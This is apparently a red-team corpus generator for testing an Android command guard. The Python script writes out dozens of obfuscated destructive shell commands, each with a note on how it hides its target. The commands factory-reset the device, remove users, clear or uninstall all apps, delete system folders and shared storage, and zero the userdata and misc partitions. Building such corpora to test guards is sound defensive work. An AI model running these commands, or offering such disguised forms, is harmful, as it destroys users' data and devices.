#!/usr/bin/env python3
"""Round 11, attacker C (Android routes): the corpus as Python data. Writes corpus.jsonl and
unprovable.jsonl and checks that no cmd repeats an earlier line. Nothing here runs the commands."""
import glob, json, pathlib
HERE = pathlib.Path(__file__).resolve().parent
DL = "android.provider.extra.SETTINGS_EMBEDDED_DEEP_LINK_INTENT_URI"
R = []
def add(family, cmd, note, **kw):
    R.append(dict(family=family, cmd=cmd, note=note, **kw))

# --- nested-uri: a deep-link intent URI, percent-encoded, as an S. extra of an outer intent URI
add("nested-uri", "am start 'intent:#Intent;action=android.settings.SETTINGS_EMBED_DEEP_LINK_ACTIVITY;S.android.provider.extra.SETTINGS_EMBEDDED_DEEP_LINK_HIGHLIGHT_MENU_KEY=top_level_system;S." + DL + "=intent%3A%23Intent%3Bcomponent%3Dcom.android.settings%2F.Settings%2524%46actory%52esetActivity%3Bend;end'",
    "the outer intent is Settings' deep-link host; its S. string extra is itself an intent URI, percent-encoded once (letters of the reset word too). Intent.parseUri decodes the S. value once, the host parses the result and starts FactoryResetActivity. No earlier line nested an intent URI inside an intent URI's extra")
add("nested-uri", "cmd activity start-activity 'android-app://com.android.settings#Intent;action=android.settings.SETTINGS_EMBED_DEEP_LINK_ACTIVITY;S." + DL + "=intent%3A%23Intent%3Bcomponent%3Dcom.android.settings%2F.SubSettings%3BS.%3Asettings%3Ashow_fragment%3Dcom.android.settings.%4Daster%43lear%43onfirm%3Bend;end'",
    "android-app: outer URI (host = Settings) carrying a nested, encoded intent URI: SubSettings showing the MasterClearConfirm fragment (the 'erase everything' confirm screen)")
add("nested-uri", "am start --activity-clear-top \"intent:#Intent;launchFlags=0x10000000;S.$(printf %s " + DL + ")=intent%3A%23Intent%3Baction%3Dandroid.intent.action.%46ACTORY%5fRESET%3Bpackage%3Dcom.android.settings%3Bend;action=android.settings.SETTINGS_EMBED_DEEP_LINK_ACTIVITY;end\"",
    "the nested URI names the FACTORY_RESET action (encoded) restricted to Settings; the outer action comes after the extra, and the extra key is printed by printf")

# --- intent-tostring: Intent.toString() as logcat / am print it, parsed back into am arguments
add("intent-tostring", "i='Intent { act=android.intent.action.MASTER_CLEAR flg=0x1000010 pkg=android cmp=android/com.android.server.MasterClearReceiver (has extras) }'; a=${i#*act=}; c=${i#*cmp=}; am broadcast -a ${a%% *} -n ${c%% *}",
    "an `Intent { act=… cmp=… }` line as ActivityManager logs a broadcast: the act= and cmp= fields are cut out and re-sent, which is the MasterClearReceiver broadcast")
add("intent-tostring", "echo 'I ActivityTaskManager: START u0 {act=android.intent.action.VIEW cmp=com.android.settings/.Settings$FactoryResetActivity} from uid 2000' | sed 's/.*cmp=\\([^ }]*\\).*/\\1/' | xargs am start -n",
    "a logcat START line (`{act=… cmp=…}`): sed keeps the cmp= field and am starts that component, FactoryResetActivity; the visible act= is VIEW")
add("intent-tostring", "printf '%s\\n' 'Broadcasting: Intent { act=android.intent.action.FACTORY_RESET flg=0x400000 pkg=android }' | awk '{for(i=1;i<=NF;i++) if(sub(/^act=/,\"\",$i)) a=$i; else if(sub(/^pkg=/,\"\",$i)) p=$i; print \"-a \" a \" -p \" p}' | xargs cmd activity broadcast",
    "am's own `Broadcasting: Intent { … }` echo line: awk rebuilds -a/-p from act= and pkg= and cmd activity sends it again")

# --- class-segment: the program / service name is a segment of a framework class name
add("class-segment", "c=com.android.server.testharness.TestHarnessModeService; s=${c#*server.}; cmd ${s%%.*} enable",
    "TestHarnessModeService lives in package com.android.server.testharness, and that segment is the binder service name: cmd testharness enable (wipes the device)")
add("class-segment", "s=TestHarnessModeService; cmd $(printf %s \"${s%ModeService}\" | tr A-Z a-z) enable",
    "the service name from the class's simple name: CamelCase minus ModeService, lower-cased")
add("class-segment", "c=com.android.server.pm.PackageManagerShellCommand; t=${c#*server.}; t=${t%%.*}; $t list packages -3 | while IFS=: read -r _ p; do $t clear \"$p\"; done",
    "the program `pm` is the package segment of PackageManagerShellCommand's class name; every user app cleared")
add("class-segment", "c=com.android.server.am.ActivityManagerShellCommand; t=${c#*server.}; ${t%%.*} broadcast -p android -a android.intent.action.MASTER_CLEAR",
    "the program `am` from ActivityManagerShellCommand's package segment")

# --- pm-filter: list filters no corpus used (real pm options; the set is still the device's)
add("pm-filter", "pm list packages --factory-only | while IFS=: read -r _ p; do pm uninstall -k --user 0 \"$p\"; done",
    "`--factory-only` lists the preinstalled packages: every one removed for user 0 (a 'debloat')")
add("pm-filter", "cmd package list packages -a -l | cut -d: -f2 | xargs -n1 cmd package clear",
    "`-a` (all known packages) and `-l` (accepted, ignored): every package's data cleared")

# --- owner-user: the user id from the numeric owner of per-user app data (uid / 100000)
add("owner-user", "for u in $(stat -c %u /data/user/*/com.google.android.gms); do cmd user remove-user $((u / 100000)); done",
    "on a phone each user's copy of an app's data is owned by that user's uid (1010002 for user 10): the owner divided by 100000 is the user id, and every user that has Play services is removed")
add("owner-user", "ls -nd /data/user_de/*/com.android.providers.contacts | awk '{print int($3/100000)}' | xargs -n1 pm remove-user",
    "the same from `ls -n`'s numeric owner column of the device-encrypted data directories")

# --- android-uid-name: user ids written in Android's uid-name form u<USER>_a<APP>
add("uid-name", "for n in u10_a103 u11_a57; do n=${n%%_*}; pm remove-user ${n#u}; done",
    "`u10_a103` is how ps/ls print an app uid of user 10: the user part is removed")
add("uid-name", "echo 'UserInfo{10:Work profile:1030}' | sed 's/UserInfo{\\([0-9]*\\):.*/\\1/' | xargs cmd user remove-user",
    "dumpsys user's `UserInfo{ID:NAME:FLAGS}` form: the work profile (and its data) removed")
add("uid-name", "cat <<'EOF' | grep -o 'id=\"[0-9]*\"' | tr -dc '0-9\\n' | xargs -n1 pm remove-user\n<users version=\"9\">\n<user id=\"10\" />\n<user id=\"11\" />\n</users>\nEOF",
    "/data/system/users/userlist.xml's `<user id=\"N\" />` rows: users 10 and 11 removed")

# --- art-path: paths of ART artifacts and profiles, cut back to what holds them
add("art-path", "o=/system/framework/oat/arm64/services.odex; rm -rf \"${o%/oat/*}\"",
    "'remove a stale odex': cutting at /oat/ leaves /system/framework, which is deleted (framework.jar with it)")
add("art-path", "o=/data/app/~~r4nd0m==/com.example.app-1/oat/arm64/base.odex; rm -rf \"${o%/oat/*}\"",
    "an app's compiled code path cut at /oat/ is its /data/app install directory: the APK deleted")
add("art-path", "p=/data/misc/profiles/cur/0/com.whatsapp/primary.prof; rm -rf \"${p%%/profiles/*}\"",
    "'reset an ART profile': the longest cut at /profiles/ is /data/misc (wifi, keystore, ... all system state)")
add("art-path", "for f in /data/misc/profiles/ref/com.whatsapp/primary.prof /data/misc/profiles/ref/com.spotify.music/primary.prof /data/misc/profiles/cur/0/com.example.app/primary.prof /data/misc/profiles/cur/0/com.example.other/primary.prof; do f=${f%/*}; pm clear ${f##*/}; done",
    "ART profile paths (`profiles/ref/PKG/primary.prof`, `cur/USER/PKG/`): the directory name is the package; 4 apps cleared")

# --- crash-notation: packages written in crash-report notations
add("crash-notation", "sed -n 's/.*>>> \\(.*\\) <<<.*/\\1/p' <<'EOF' | xargs -n1 pm clear\npid: 4242, tid: 4242, name: Thread-1  >>> com.whatsapp <<<\npid: 5151, tid: 5160, name: RenderThread  >>> com.spotify.music <<<\npid: 6161, tid: 6161, name: main  >>> com.example.app <<<\npid: 7171, tid: 7180, name: binder:7171_2  >>> com.example.other <<<\nEOF",
    "tombstone headers (`>>> PROCESS <<<`): the four crashed apps cleared")
add("crash-notation", "awk '/^Cmd line:/{print $3}' <<'EOF' | while read -r p; do cmd package uninstall \"$p\"; done\n----- pid 4242 at 2024-01-01 10:00:00 -----\nCmd line: com.whatsapp\n----- pid 5151 at 2024-01-01 10:00:05 -----\nCmd line: com.spotify.music\n----- pid 6161 at 2024-01-01 10:01:00 -----\nCmd line: com.example.app\n----- pid 7171 at 2024-01-01 10:02:00 -----\nCmd line: com.example.other\nEOF",
    "ANR trace headers (`Cmd line: PROCESS`): four apps uninstalled")
add("crash-notation", "for l in 'Process: com.whatsapp, PID: 4242' 'Process: com.spotify.music, PID: 5151' 'Process: com.example.app, PID: 6161' 'Process: com.example.other, PID: 7171'; do l=${l#*: }; pm clear ${l%%,*}; done",
    "AndroidRuntime FATAL EXCEPTION lines (`Process: PKG, PID: N`): four apps cleared")

# --- apk-file: packages from APK download file names
add("apk-file", "for f in com.whatsapp_2.24.1.6-241_minAPI21\\(arm64-v8a\\)\\(nodpi\\)_apkmirror.com.apk com.spotify.music_8.9.0-12_apkmirror.com.apk com.example.app_1.0-1_apkmirror.com.apk com.example.other_2.1-3_apkmirror.com.apk; do pm uninstall ${f%%_*}; done",
    "APKMirror file names (`PKG_VERSION-CODE_…_apkmirror.com.apk`): the part before the first underscore; four apps uninstalled")
add("apk-file", "for f in com.whatsapp.apks com.spotify.music.apks com.example.app.xapk com.example.other.apkm; do cmd package clear ${f%.*}; done",
    "split-APK bundle names (SAI .apks, .xapk, .apkm): the extension dropped; four apps cleared")

# --- gradle: applicationId lines of build.gradle files
add("gradle", "printf \"applicationId '%s'\\n\" com.whatsapp com.spotify.music com.example.app com.example.other | awk -F\"'\" '{print $2}' | xargs -n1 pm uninstall",
    "Gradle `applicationId 'PKG'` lines: the quoted field; four apps uninstalled")

# --- sibling-glob: a named system file's name cut, then a glob that catches its siblings
add("sibling-glob", "f=/data/system/users/0/settings_secure.xml; rm -rf \"${f%/*}\"*",
    "'reset secure settings': dirname of the settings file plus a trailing * matches both the user's directory and /data/system/users/0.xml (the user record)")
add("sibling-glob", "l=/data/system/packages.list; rm -f ${l%.list}.*",
    "'delete the stale packages.list': the glob packages.* also matches packages.xml, the package manager's state")
add("sibling-glob", "f=/system/etc/hosts; rm -f ${f%/*/*}/build*",
    "two levels up from a hosts file is /system: build.prop deleted")

# --- recurring-word: a cut at a word that occurs twice in an Android path
add("recurring-word", "p=/sdcard/Android/media/com.whatsapp/WhatsApp/Media; rm -rf \"${p%%/media/*}\"",
    "'clear WhatsApp's media': the longest cut at /media/ stops at Android/media, so the whole top-level Android folder (every app's external data) is deleted")
add("recurring-word", "p=/data/media/0/Download/report.pdf; rm -rf \"${p%/0/*}\"",
    "`${p%/0/*}` is meant as 'the folder of the file' but the /0/ is the user id: /data/media, the whole storage, is deleted")
add("recurring-word", "p=/storage/emulated/0/Android/data/com.example.app/files/tmp; rm -rf \"${p%%/data/*}\"",
    "the longest cut at /data/ stops at Android/data: the top-level Android folder deleted")

# --- trampoline: Settings' search-result trampoline shows a fragment named in an extra
add("trampoline", "am start -a com.android.settings.SEARCH_RESULT_TRAMPOLINE --es :settings:show_fragment com.android.settings.MasterClear",
    "SearchResultTrampoline (the target of Settings search results) starts SubSettings with the :settings:show_fragment it is given: the reset screen (Android 9; 10+ checks the caller)")


add("recurring-word", "p=/data/user_de/0/com.example.app/databases/de.db; rm -rf \"${p%%/0/*}\"",
    "'remove one app's device-encrypted database': the longest cut at /0/ is /data/user_de, every app's device-encrypted data for every user")
add("owner-user", "toybox find -L /data/user -mindepth 2 -maxdepth 2 -name com.google.android.gms -printf '%U\\n' | while read -r u; do pm remove-user $((u / 100000)); done",
    "toybox find's -printf %U (numeric owner; named as toybox, Android's find) of each user's copy of Play services' data: the user id is the owner's uid / 100000")

# --- service-context: the binder service name from its SELinux type (service_contexts)
add("service-context", "t=u:object_r:testharness_service:s0; t=${t#*_r:}; cmd ${t%_service*} enable",
    "service_contexts labels each binder service `NAME_service`: the type of the test-harness service gives its name; cmd testharness enable wipes the device")
add("service-context", "for t in u:object_r:recovery_service:s0; do t=${t#u:object_r:}; service call ${t%%_*} 2 s16 --wipe_data; done",
    "recovery_service's label gives `recovery`; transaction 2 (setupBcb) writes --wipe_data into the BCB")
add("service-context", "grep -o 'object_r:[a-z]*_service' <<'EOF' | sed 's/object_r://; s/_service//' | while read -r s; do cmd $s remove-user 10; done\nuser                                      u:object_r:user_service:s0\nEOF",
    "a service_contexts row (`user  u:object_r:user_service:s0`): the label's stem is the user service; user 10 removed")
add("service-context", "s=$(echo u:object_r:package_service:s0 | cut -d: -f3); s=${s%_service}; cmd $s list packages -3 | cut -d: -f2 | xargs -n1 cmd $s clear",
    "package_service's label gives `package`: cmd package clears every user app")

# --- partitions-row: block devices from /proc/partitions rows (major minor blocks name)
add("partitions-row", "while read -r M m b n; do case $n in mmcblk0p13) mknod /data/local/tmp/u b $M $m && dd if=/dev/zero of=/data/local/tmp/u bs=4096 count=4 conv=notrunc;; esac; done <<'EOF'\n179 0 124071936 mmcblk0\n179 13 61071360 mmcblk0p13\nEOF",
    "/proc/partitions rows: the major/minor of mmcblk0p13 (userdata) made into a node and zeroed",
    shells=["mksh"], shells_why="busybox sh runs its own mknod applet, which cannot make a node in the sandbox (the stub mknod is what stands for the kernel); on Android the shell is mksh and mknod is toybox")
add("partitions-row", "awk '$4 ~ /p7$/ {print \"/dev/block/\" $4}' <<'EOF' | xargs -I{} dd if=/dev/zero of={} bs=512 count=8 conv=notrunc\nmajor minor  #blocks  name\n 179        7       1024 mmcblk0p7\nEOF",
    "the row whose name ends in p7 (misc, the BCB) zeroed")

# --- query-row: `content query` output rows (`Row: N col=value, …`)
add("query-row", "printf '%s\\n' 'Row: 0 _id=12, _data=/storage/emulated/0/DCIM, mime_type=NULL' 'Row: 1 _id=13, _data=/storage/emulated/0/Pictures, mime_type=NULL' | sed 's/.*_data=\\([^,]*\\),.*/\\1/' | xargs rm -rf",
    "MediaStore files-table rows as `content query` prints them: the _data column of the folder rows is the DCIM and Pictures folders, deleted")
add("query-row", "sed -n 's/^Row: [0-9]* package_name=\\([^,]*\\),.*/\\1/p' <<'EOF' | xargs -n1 pm clear\nRow: 0 package_name=com.whatsapp, last_used=1704100000\nRow: 1 package_name=com.spotify.music, last_used=1704000000\nRow: 2 package_name=com.example.app, last_used=1703900000\nRow: 3 package_name=com.example.other, last_used=1703800000\nEOF",
    "a `content query` result with a package_name column: four apps cleared")

# --- diskstats: dumpsys diskstats JSON arrays
add("diskstats", "echo 'App Package Names: [\"com.whatsapp\",\"com.spotify.music\",\"com.example.app\",\"com.example.other\"]' | tr -d '[]\"' | cut -d: -f2 | tr , '\\n' | xargs -n1 pm clear",
    "dumpsys diskstats' `App Package Names: [\"…\",…]` array: four apps cleared ('free space')")

# --- recents: dumpsys activity recents `realActivity={PKG/CLASS}`
add("recents", "for r in 'realActivity={com.whatsapp/com.whatsapp.Main}' 'realActivity={com.spotify.music/.MainActivity}' 'realActivity={com.example.app/.Home}' 'realActivity={com.example.other/.Start}'; do r=${r#*{}; cmd package uninstall ${r%%/*}; done",
    "recent-task records (`realActivity={PKG/CLASS}`): four apps uninstalled")

# --- private-public: an app's private directory named like a top-level folder
add("private-public", "d=$(basename /sdcard/Android/data/com.example.app/files/Pictures); rm -rf /storage/self/primary/$d",
    "getExternalFilesDir(DIRECTORY_PICTURES) ends in Pictures; its name is then used under the storage root: the top-level Pictures folder deleted")

add("trampoline", "cmd activity start-activity -n com.android.settings/.search.SearchResultTrampoline -e :settings:show_fragment com.android.settings.MasterClearConfirm",
    "the trampoline named by component: SubSettings with the reset confirm fragment")

add("query-row", "awk -F'user_id=' 'NF>1{split($2,a,\",\"); print a[1]}' <<'EOF' | xargs -n1 cmd user remove-user\nRow: 0 user_id=10, user_name=Work profile\nRow: 1 user_id=11, user_name=Guest\nEOF",
    "rows with a user_id column as `content query` prints them: users 10 and 11 removed")

# --- mls-category: an app's uid computed from its SELinux MLS categories (levelFrom=all)
add("mls-category", "for c in s0:c101,c256,c512,c768 s0:c102,c256,c512,c768 s0:c103,c256,c512,c768 s0:c104,c256,c512,c768; do c=${c#s0:c}; pm list packages --uid $((10000 + ${c%%,*})) | cut -d: -f2 | xargs -n1 pm clear; done",
    "app data is labelled `s0:cA,cB,…` with A = appid & 255 and B = 256 + (appid >> 8): the first category plus 10000 is the app's uid, which pm turns back into its package; every app in the list cleared")
add("mls-category", "echo 'u:object_r:app_data_file:s0:c103,c256,c512,c768' | awk -F'[:,c]+' '{print 10000 + $6 + ($7 - 256) * 256}' | while read -r u; do cmd package list packages --uid $u; done | sed 's/^package://' | while read -r p; do cmd package uninstall \"$p\"; done",
    "the uid from both categories of an `ls -Z` context (appid = c1 + (c2-256)*256): 10103, the package found by --uid and uninstalled (the sandbox's pm ignores --uid and lists every package)")

# --- recursion: the device's list walked by a recursive function over "$@"
add("recursion", "f(){ [ $# -eq 0 ] || { pm clear \"${1#package:}\"; shift; f \"$@\"; }; }; f $(pm list packages -3)",
    "a recursive function consumes the list one positional parameter at a time")

UNPROVABLE = []
def unp(family, cmd, note, why):
    UNPROVABLE.append(dict(family=family, cmd=cmd, note=note, why=why))

unp("nested-uri", "am start 'intent:#Intent;action=android.settings.SETTINGS_EMBED_DEEP_LINK_ACTIVITY;S." + DL + "=intent%253A%2523Intent%253Bcomponent%253Dcom.android.settings%252F.Settings%252524%2546actory%2552esetActivity%253Bend;end'",
    "the nested URI encoded twice: the outer parseUri decodes once, Settings' parseUri of the nested URI once more (component fields are decoded), giving FactoryResetActivity",
    "the sandbox decodes an intent URI's fields once, so the reset word never appears")

def earlier():
    seen = set()
    files = glob.glob("tests/guard/**/*.jsonl", recursive=True) + [
        f for f in glob.glob("attack/r*/**/*.jsonl", recursive=True) if not f.startswith(str(HERE))]
    for f in files:
        for l in open(f, errors="replace"):
            try:
                seen.add(json.loads(l)["cmd"])
            except Exception:
                pass
    return seen

if __name__ == "__main__":
    old = earlier()
    dup = [r["cmd"] for r in R + UNPROVABLE if r["cmd"] in old]
    assert not dup, dup
    order = {}
    for r in R:
        order.setdefault(r["family"], len(order))
    R.sort(key=lambda r: order[r["family"]])  # stable: families together, in first-seen order
    cmds = [r["cmd"] for r in R]
    assert len(cmds) == len(set(cmds))
    (HERE / "corpus.jsonl").write_text("".join(json.dumps(r) + "\n" for r in R))
    (HERE / "unprovable.jsonl").write_text("".join(json.dumps(r) + "\n" for r in UNPROVABLE))
    print(len(R), "lines;", len(UNPROVABLE), "unprovable;", len(old), "earlier lines checked")
